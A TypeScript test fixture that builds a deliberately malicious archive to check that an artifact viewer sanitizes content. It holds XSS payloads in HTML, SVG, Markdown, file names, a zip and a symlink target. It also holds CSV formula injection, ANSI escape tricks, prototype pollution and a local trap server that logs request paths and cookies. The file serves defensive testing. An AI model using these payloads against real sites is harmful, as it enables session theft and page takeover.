/** A malicious artifact. Each payload, if it ran, would write to the console, change the title,
 *  call the API or send a request to the trap, a server that records its requests. */
import { strToU8, zipSync } from 'fflate'
import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { TarEntry } from '../http/archives-of.ts'
import { png } from './seed.ts'

export interface Trap {
  url: string
  /** Method, path and cookie of each request. */
  visits: string[]
  close(): void
}

export async function openTrap(): Promise<Trap> {
  const visits: string[] = []
  const server = createServer((request, response) => {
    visits.push(`${request.method} ${request.url} cookie=${request.headers.cookie ?? ''}`)
    response.end()
  })
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  const { port } = server.address() as AddressInfo
  return { url: `http://127.0.0.1:${port}`, visits, close: () => server.close() }
}

/** For places that take a short text: a name, a branch, a step. */
export const hostileText = `"><img src=x onerror=console.log('owned',self.origin)><script>console.log('owned',self.origin)</script>`

export function hostileFiles(trap: string): TarEntry[] {
  const script =
    `document.title='owned';console.log('owned',self.origin);fetch('/api/v1/artifacts').catch(()=>{});` +
    `fetch('${trap}/from-script').catch(()=>{});try{top.document.title='owned'}catch{}`
  const markup =
    `<script>${script}</script><img src=x onerror="${script}"><img src="${trap}/pixel.png">` +
    `<svg onload="${script}"></svg><iframe src="javascript:${script}"></iframe>` +
    `<form action="${trap}/form"><button id=b>x</button></form><script>b.click()</script>` +
    `<meta http-equiv="refresh" content="0;url=${trap}/refresh">`
  return [
    { name: 'index.html', content: `<!doctype html>${markup}` },
    {
      name: 'evil.svg',
      content: `<svg xmlns="http://www.w3.org/2000/svg"><script>${script}</script></svg>`,
    },
    { name: 'polyglot.png', content: Buffer.concat([png(4), Buffer.from(markup)]) },
    {
      name: 'README.md',
      content:
        `${markup}\n\n[click](javascript:${encodeURIComponent(script)}) ![x](${trap}/markdown.png) ` +
        `![x](data:text/html,${markup}) [y](  JaVaScRiPt:alert(1)) [z](data:text/html,x) ` +
        `<a href="javascript:alert(1)">raw</a> [up](../../../../../../sign-out) \`${markup}\`\n`,
    },
    { name: 'data.json', content: JSON.stringify({ [markup]: markup, __proto__: { x: 1 } }) },
    {
      name: 'table.csv',
      content: `"${markup.replaceAll('"', '""')}",b\n=cmd|calc,${markup.replaceAll('"', "'").replaceAll(',', '')}\n`,
    },
    {
      name: 'ansi.log',
      content: `\u001b[31m${markup}\u001b[0m\n\u001b]8;;javascript:alert(1)\u0007link\u001b]8;;\u0007\n\u001b]0;owned\u0007\n`,
    },
    { name: 'events.ndjson', content: `${JSON.stringify({ [markup]: markup })}\n` },
    { name: `"><img src=x onerror=console.log('owned',self.origin)>.txt`, content: markup },
    { name: `'onfocus='console.log("owned",self.origin)' autofocus='/x.txt`, content: markup },
    {
      name: 'bad.zip',
      content: Buffer.from(
        zipSync({ [`<img src=x onerror=console.log('owned',self.origin)>`]: strToU8(markup) }),
      ),
    },
    { name: `a/'-alert(1)-'/${'\u202e'}cod.exe`, content: markup },
    {
      name: 'link',
      type: 'symlink',
      linkname: `"><script>console.log('owned',self.origin)</script>`,
    },
  ]
}
